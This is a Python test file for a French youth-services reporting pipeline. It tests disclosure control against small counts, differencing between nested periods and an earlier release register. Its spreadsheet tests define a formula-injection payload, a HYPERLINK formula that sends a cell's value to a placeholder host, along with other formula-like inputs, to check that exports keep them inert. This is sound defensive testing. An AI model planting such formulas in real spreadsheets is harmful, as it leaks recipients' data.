"""Disclosure control across time and recipients: the register of what was sent (`lib/registre.py`) and the
differences between nested periods (`extraits.secretiser_indicateurs(..., publiees)`), on hand-built tables; then
(slow) the attack of the issue on three consecutive runs of a 620-youth synthetic export: month, next month, year,
into one output folder, every funder pooled."""

import calendar
import csv
import io
import os
import random
import subprocess
import sys
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import pytest

from milo_pipeline.lib import extraits, registre
from milo_pipeline.lib.extraits import Publiee
from milo_pipeline.lib.periods import Periode
from milo_pipeline.lib.suppression import ANTERIEUR, MASQUE, Cellule, Groupe, recalculables, secretiser

ROOT = Path(__file__).resolve().parents[1]
STRUCTURE = extraits.structure_du_dictionnaire()
NOV, DEC = Periode(date(2024, 11, 1), date(2024, 11, 30)), Periode(date(2024, 12, 1), date(2024, 12, 31))
CUMUL_NOV, ANNEE = Periode(date(2024, 1, 1), date(2024, 11, 30)), Periode(date(2024, 1, 1), date(2024, 12, 31))
UNITES = {"cej_nb_rqth_cumul": "nb", "cej_nb_entrees_cumul": "nb", "cej_femmes_pct_cumul": "pct",
          "pa_nb_jeunes": "nb", "acc_nb_jeunes": "nb"}


def ligne(indicateur, valeur, periode, modalite=None):
    return {"periode_debut": periode.debut, "periode_fin": periode.fin, "indicateur": indicateur,
            "modalite": modalite, "valeur": valeur, "unite": UNITES[indicateur]}


def publiee(indicateur, valeur, periode, masque=False, effectif=None, modalite=None):
    return Publiee(periode.debut, periode.fin, indicateur, modalite, None if masque else valeur, masque,
                   valeur if effectif is None else effectif)


def valeurs(table) -> dict:
    return {(r["indicateur"], r["periode_fin"].month if r["periode_debut"].month > 1 else
             ("cumul", r["periode_fin"].month)): r["valeur"] for r in table.lignes}


# --------------------------------------------------------------------------- the engine, cells frozen

def test_a_cell_already_sent_masked_stays_masked_and_one_sent_published_is_never_chosen():
    cellules = {"total": Cellule(40), "a": Cellule(3), "b": Cellule(17), "c": Cellule(20)}
    groupe = Groupe(("a", "b", "c"), "total")
    assert secretiser(cellules, [groupe]) == {"a": "primaire", "b": "secondaire"}, "b: the smallest other part"
    motifs = secretiser(cellules, [groupe], figees={"b": False, "c": True})
    assert motifs == {"a": "primaire", "c": ANTERIEUR}, "b was sent as a value: c, sent masked, protects a"
    assert recalculables([groupe], motifs) == set()


# --------------------------------------------------------------------------- differences over nested periods

def test_the_issue_case_one_more_youth_in_december_masks_the_year_to_date():
    """`cej_nb_rqth_cumul` 5 at the end of November (sent), 6 at the end of December: 6 − 5 = 1 youth."""
    table = extraits.secretiser_indicateurs([ligne("cej_nb_rqth_cumul", 6, ANNEE)], STRUCTURE, 5,
                                            [publiee("cej_nb_rqth_cumul", 5, CUMUL_NOV)])
    assert table.lignes[0]["valeur"] == MASQUE
    assert table.differences == 1


@pytest.mark.parametrize(("avant", "maintenant", "masquee"), [(5, 10, False), (5, 9, True), (5, 5, False),
                                                              (12, 16, True), (12, 17, False)])
def test_a_difference_is_published_only_when_it_is_0_or_at_least_k(avant, maintenant, masquee):
    table = extraits.secretiser_indicateurs([ligne("pa_nb_jeunes", maintenant, ANNEE)], STRUCTURE, 5,
                                            [publiee("pa_nb_jeunes", avant, CUMUL_NOV)])
    assert (table.lignes[0]["valeur"] == MASQUE) is masquee


def test_a_month_and_its_year_to_date_in_one_table_do_not_tell_the_rest_of_the_year():
    """December 7 and the year 9: 9 − 7 = 2 youths before December. The inner cell (the month) is masked; the year
    stays; a month of 7 against a year of 30 publishes both."""
    table = extraits.secretiser_indicateurs([ligne("acc_nb_jeunes", 7, DEC), ligne("acc_nb_jeunes", 9, ANNEE)],
                                            STRUCTURE, 5)
    assert [r["valeur"] for r in table.lignes] == [MASQUE, 9]
    table = extraits.secretiser_indicateurs([ligne("acc_nb_jeunes", 7, DEC), ligne("acc_nb_jeunes", 30, ANNEE)],
                                            STRUCTURE, 5)
    assert [r["valeur"] for r in table.lignes] == [7, 30]


def test_periods_that_do_not_nest_are_not_compared():
    table = extraits.secretiser_indicateurs([ligne("acc_nb_jeunes", 7, DEC)], STRUCTURE, 5,
                                            [publiee("acc_nb_jeunes", 9, NOV)])
    assert table.lignes[0]["valeur"] == 7


def test_shares_are_compared_through_their_numerators():
    """CEJ entries since the start of the year: 10 at the end of November with 50 % women (5 women, sent), 11 at
    the end of December with 54.5 % (6 women): one woman more. Both the count (10 → 11) and the share's numerator
    (5 → 6) differ by 1: both masked. With 20 entries and 55 % (11 women) both are published."""
    envoyees = [publiee("cej_nb_entrees_cumul", 10, CUMUL_NOV), publiee("cej_femmes_pct_cumul", 50.0, CUMUL_NOV,
                                                                        effectif=5)]
    table = extraits.secretiser_indicateurs([ligne("cej_nb_entrees_cumul", 11, ANNEE),
                                             ligne("cej_femmes_pct_cumul", 54.5, ANNEE)], STRUCTURE, 5, envoyees)
    assert [r["valeur"] for r in table.lignes] == [MASQUE, MASQUE]
    table = extraits.secretiser_indicateurs([ligne("cej_nb_entrees_cumul", 20, ANNEE),
                                             ligne("cej_femmes_pct_cumul", 55.0, ANNEE)], STRUCTURE, 5, envoyees)
    assert [r["valeur"] for r in table.lignes] == [20, 55.0]


def test_only_the_share_numerator_differs_by_a_small_count():
    """Entries 10 → 20 (published), women 5 → 6: the share 30 % of 20 is masked, the count is not."""
    envoyees = [publiee("cej_nb_entrees_cumul", 10, CUMUL_NOV), publiee("cej_femmes_pct_cumul", 50.0, CUMUL_NOV,
                                                                        effectif=5)]
    table = extraits.secretiser_indicateurs([ligne("cej_nb_entrees_cumul", 20, ANNEE),
                                             ligne("cej_femmes_pct_cumul", 30.0, ANNEE)], STRUCTURE, 5, envoyees)
    assert [r["valeur"] for r in table.lignes] == [20, MASQUE]


def test_what_was_sent_is_sent_again_as_it_was():
    """The year was sent (12, and a masked 3); corrected exports now say 13 and 40: 12 and `s` again, and the
    difference is reported."""
    envoyees = [publiee("acc_nb_jeunes", 12, ANNEE), publiee("pa_nb_jeunes", None, ANNEE, masque=True, effectif=3)]
    table = extraits.secretiser_indicateurs([ligne("acc_nb_jeunes", 13, ANNEE), ligne("pa_nb_jeunes", 40, ANNEE)],
                                            STRUCTURE, 5, envoyees)
    assert [r["valeur"] for r in table.lignes] == [12, MASQUE]
    assert table.figees_differentes == ((ANNEE.debut, ANNEE.fin, "acc_nb_jeunes", None),)
    assert table.motifs[(ANNEE.debut, ANNEE.fin, "pa_nb_jeunes", None)] == ANTERIEUR
    lignes = [ligne("acc_nb_jeunes", 13, ANNEE), ligne("pa_nb_jeunes", 40, ANNEE)]
    assert extraits.valeurs_conservees_csv(lignes, table).decode().splitlines() == [
        "periode_debut,periode_fin,indicateur,modalite,valeur_envoyee,valeur_calculee,unite",
        "2024-01-01,2024-12-31,acc_nb_jeunes,,12,13,nb"]


def test_a_difference_that_only_a_cell_already_sent_could_hide_masks_the_new_cell():
    """The month (7) and the year to date of November (2) were sent; the year is 9: 9 − 7 = 2 and 9 − 2 = 7.
    Neither sent cell can be withdrawn: the year is masked."""
    envoyees = [publiee("acc_nb_jeunes", 7, DEC), publiee("acc_nb_jeunes", None, CUMUL_NOV, masque=True, effectif=2)]
    table = extraits.secretiser_indicateurs([ligne("acc_nb_jeunes", 9, ANNEE)], STRUCTURE, 5, envoyees)
    assert table.lignes[0]["valeur"] == MASQUE


@pytest.mark.parametrize("graine", range(8))
def test_a_year_of_monthly_runs_then_the_year_publish_nothing_recoverable(graine):
    """Random monthly counts of a breakdown and its total (territories and `acc_nb_jeunes`), a month and its year
    to date each month then the year, every run against the register of the ones before: pooled, no small count,
    no cell with two values, no two nested cells 1 to 4 apart, and each table's equations determine nothing."""
    hasard = random.Random(graine)
    territoires = ["A", "B", "C", "D"]
    mois = [{t: hasard.choice([0, 0, 1, 2, 3, 6, 9, 15]) for t in territoires} for _ in range(12)]
    envoyees: list[Publiee] = []
    pool: dict = {}

    def table(periode, valeurs):
        return [ligne("acc_nb_jeunes", sum(valeurs.values()), periode)] + [
            {**ligne("acc_nb_jeunes", 0, periode), "indicateur": "terr_nb_jeunes", "modalite": t, "valeur": v}
            for t, v in valeurs.items()]

    runs = []
    for m in range(1, 13):
        fin = date(2024, m, calendar.monthrange(2024, m)[1])
        cumul = {t: sum(mois[i][t] for i in range(m)) for t in territoires}
        runs.append(table(Periode(date(2024, m, 1), fin), mois[m - 1])
                    + (table(Periode(date(2024, 1, 1), fin), cumul) if m > 1 else []))
    runs.append(table(ANNEE, {t: sum(mois[i][t] for i in range(12)) for t in territoires}))
    for lignes in runs:
        resultat = extraits.secretiser_indicateurs(lignes, STRUCTURE, 5, envoyees)
        cellules, groupes, _ = extraits.cellules_et_groupes(lignes, STRUCTURE)
        assert recalculables(groupes, resultat.motifs) == set()
        for r in resultat.lignes:
            k = extraits.cle(r)
            masque = r["valeur"] == MASQUE
            envoyees.append(Publiee(*k, None if masque else r["valeur"], masque, resultat.effectifs[k]))
            if not masque:
                pool.setdefault(k[2:], {}).setdefault(k[:2], set()).add(r["valeur"])
    assert fuites(pool) == []
    assert sum(len(v) for p in pool.values() for v in p.values()) > 20, "not everything masked"


# --------------------------------------------------------------------------- the register in DuckDB

def test_the_register_keeps_what_was_published_and_forgets_what_was_not(tmp_path):
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    table = extraits.secretiser_indicateurs([ligne("acc_nb_jeunes", 3, DEC), ligne("acc_nb_jeunes", 30, ANNEE)],
                                            STRUCTURE, 5)
    registre.ecrire_table(con, "run-a", table)
    unites = {"acc_nb_jeunes": "nb"}
    lues = registre.lire_table(con, unites)
    assert [r["valeur"] for r in lues] == [MASQUE, 30]
    assert [(r["valeur"], r["secret"]) for r in registre.lignes_secretisees(
        con, [ligne("acc_nb_jeunes", 30, ANNEE) | {"ordre": 1}, ligne("acc_nb_jeunes", 3, DEC)])] == [
        (30, None), (MASQUE, "primaire")]
    assert registre.preparer_envoi(con, "run-a", "etat_dreets", lues) == 2
    con.execute("BEGIN TRANSACTION")
    assert registre.enregistrer(con, "run-a", date(2025, 1, 20)) == 2
    con.execute("ROLLBACK")
    assert registre.publiees(con, [(ANNEE.debut, ANNEE.fin)]) == [], "a publication that failed sent nothing"
    con.execute("BEGIN TRANSACTION")
    registre.enregistrer(con, "run-a", date(2025, 1, 20))
    con.execute("COMMIT")
    assert registre.publiees(con, [(NOV.debut, NOV.fin)]) == [
        Publiee(ANNEE.debut, ANNEE.fin, "acc_nb_jeunes", None, 30.0, False, 30)], "the year holds November"
    assert {(p.periode_debut, p.masque, p.effectif) for p in registre.publiees(con, [(DEC.debut, DEC.fin)])} == {
        (DEC.debut, True, 3), (ANNEE.debut, False, 30)}
    # a later run that stops before publication leaves nothing pending for the next one
    registre.preparer_envoi(con, "run-b", "etat_dreets", lues)
    registre.ecrire_table(con, "run-c", table)
    assert con.execute("select count(*) from diffusion.envois").fetchone()[0] == 0


# --------------------------------------------------------------------------- spreadsheets: inert text

FORMULE = '=HYPERLINK("http://exemple.invalid/?x="&A1,"cliquer")'


def test_a_formula_like_label_is_inert_in_csv_and_xlsx(tmp_path):
    financeur = extraits.Financeur("region_bfc", "=Région", (extraits.Selection("disp_nb_beneficiaires"),),
                                   ("annee",), ("xlsx", "csv"), 5, "config/financeurs/region_bfc.yaml")
    lignes = [{"periode_debut": ANNEE.debut, "periode_fin": ANNEE.fin, "indicateur": "disp_nb_beneficiaires",
               "modalite": modalite, "valeur": v, "unite": "nb"}
              for modalite, v in ((FORMULE, 12), ("+33 6 00 00 00 00", 7), ("-", 0), ("@SUM(A1)", 9))]
    dictionnaire = [{"indicateur": "disp_nb_beneficiaires", "libelle": "@libellé", "unite": "nb",
                     "definition": "\tdéfinition"}]
    extrait = extraits.construire_extrait(lignes, dictionnaire, financeur, ANNEE)
    sources = extraits.Sources("=Mission Locale", (("-jeunes.csv", "ab" * 32),), date(2025, 1, 15))
    lues = list(csv.reader(io.StringIO(extraits.extrait_csv(extrait).decode("utf-8-sig")), delimiter=";"))
    assert [r[4] for r in lues[1:]] == [f"'{FORMULE}", "'+33 6 00 00 00 00", "'-", "'@SUM(A1)"]
    assert {r[3] for r in lues[1:]} == {"'@libellé"}
    assert [r[5] for r in lues[1:]] == ["12", "7", "0", "9"], "values stay numbers"

    path = tmp_path / "x.xlsx"
    path.write_bytes(extraits.extrait_xlsx(extrait, sources))
    wb = openpyxl.load_workbook(path)
    cellules = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cellules if c.data_type == "f"], "no formula anywhere"
    donnees = wb["Données"]
    assert donnees["E2"].value == FORMULE and donnees["E2"].data_type == "s" and donnees["E2"].quotePrefix
    assert wb["Présentation"]["A1"].value == "Extrait pour =Région"
    assert wb["Présentation"]["B3"].value == "=Mission Locale" and wb["Présentation"]["B3"].quotePrefix
    assert wb["Définitions"]["D2"].value == "\tdéfinition"


@pytest.mark.slow
def test_libreoffice_reads_the_formula_labels_as_text(tmp_path):
    """The workbook and the CSV opened by LibreOffice Calc (installed by .ci/setup), as a funder's office suite
    does, then saved as CSV: the labels come back as their text; an evaluated `=1+1` would come back as 2."""
    financeur = extraits.Financeur("region_bfc", "Région", (extraits.Selection("disp_nb_beneficiaires"),))
    lignes = [{"periode_debut": ANNEE.debut, "periode_fin": ANNEE.fin, "indicateur": "disp_nb_beneficiaires",
               "modalite": modalite, "valeur": v, "unite": "nb"} for modalite, v in ((FORMULE, 12), ("=1+1", 30))]
    extrait = extraits.construire_extrait(lignes, [], financeur, ANNEE)
    (tmp_path / "e.xlsx").write_bytes(extraits.extrait_xlsx(extrait, extraits.Sources("ML", ())))
    (tmp_path / "c.csv").write_bytes(extraits.extrait_csv(extrait))
    profil = [f"-env:UserInstallation=file://{tmp_path}/profil"]
    vers_csv = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false"
    subprocess.run(["soffice", "--headless", *profil, "--convert-to", f"{vers_csv},-1", "--outdir",
                    str(tmp_path / "x"), str(tmp_path / "e.xlsx")], check=True, capture_output=True, timeout=300)
    subprocess.run(["soffice", "--headless", *profil, "--infilter=CSV:59,34,76,1", "--convert-to", vers_csv,
                    "--outdir", str(tmp_path / "c"), str(tmp_path / "c.csv")], check=True, capture_output=True,
                   timeout=300)
    xlsx = list(csv.reader(io.StringIO((tmp_path / "x" / "e-Données.csv").read_text(encoding="utf-8")),
                           delimiter=";"))
    assert [r[4] for r in xlsx[1:]] == [FORMULE, "=1+1"]
    csv_lu = list(csv.reader(io.StringIO((tmp_path / "c" / "c.csv").read_text(encoding="utf-8")), delimiter=";"))
    assert [r[4] for r in csv_lu[1:]] == [f"'{FORMULE}", "'=1+1"]


# --------------------------------------------------------------------------- the attack, end to end

CLI = str(Path(sys.executable).with_name("milo-pipeline"))


def cellules_publiees(out: Path) -> dict:
    """Every count published in a CSV extract under `out`, pooled over funders: (indicator, modality) → period →
    set of values."""
    pool: dict = {}
    for fichier in out.glob("extraits/*/*/*.csv"):
        if fichier.name.endswith("_definitions.csv"):  # the sheet « Définitions »: no figure
            continue
        for r in csv.DictReader(io.StringIO(fichier.read_bytes().decode("utf-8-sig")), delimiter=";"):
            if r["unite"] == "nb" and r["valeur"] not in ("", MASQUE):
                periode = (date.fromisoformat(r["periode_debut"]), date.fromisoformat(r["periode_fin"]))
                pool.setdefault((r["indicateur"], r["modalite"]), {}).setdefault(periode, set()).add(int(r["valeur"]))
    return pool


def fuites(pool: dict, k: int = 5) -> list:
    """Published counts from 1 to k−1, a cell published with two values, two nested periods whose counts differ by
    1 to k−1."""
    trouvees = []
    for cellule, periodes in pool.items():
        valeurs = [(p, v) for p, vs in periodes.items() for v in vs]
        trouvees += [(cellule, p, v) for p, v in valeurs if 1 <= v < k]
        trouvees += [(cellule, p, vs) for p, vs in periodes.items() if len(vs) > 1]
        for i, (p1, v1) in enumerate(valeurs):
            for p2, v2 in valeurs[i + 1:]:
                if extraits.emboitees(p1, p2) and 1 <= abs(v1 - v2) < k:
                    trouvees.append((cellule, p1, v1, p2, v2))
    return trouvees


@pytest.mark.slow
def test_month_next_month_then_year_publish_nothing_recoverable(tmp_path):
    from milo_pipeline.synthetic.generator import generate

    exports = tmp_path / "exports"
    generate(exports, youths=620, seed=7)
    env = {**os.environ, "MILO_HOME": str(tmp_path / "home"), "MILO_PSEUDONYMISATION_KEY": "k" * 40}
    for var in ("DAGSTER_HOME", "MILO_WAREHOUSE", "MILO_OUT", "MILO_EXPORTS"):
        env.pop(var, None)
    out = tmp_path / "out"
    for periode in ("2024-11", "2024-12", "2024"):
        result = subprocess.run([CLI, "run", "--exports", str(exports), "--period", periode, "--out", str(out)],
                                env=env, capture_output=True, text=True, timeout=900)
        assert result.returncode == 0, result.stdout + result.stderr
    pool = cellules_publiees(out)
    assert sum(len(vs) for periodes in pool.values() for vs in periodes.values()) > 100, "most counts published"
    assert {p for periodes in pool.values() for p in periodes} >= {
        (NOV.debut, NOV.fin), (CUMUL_NOV.debut, CUMUL_NOV.fin), (DEC.debut, DEC.fin), (ANNEE.debut, ANNEE.fin)}
    assert fuites(pool) == []
    with duckdb.connect(str(tmp_path / "home" / "warehouse.duckdb"), read_only=True) as con:
        destinataires = {r[0] for r in con.execute("select distinct destinataire from diffusion.registre").fetchall()}
    assert destinataires == {"etat_dreets", "region_bfc", "departement_doubs", "caf_doubs", "ville_besancon",
                             "rapport_public"}
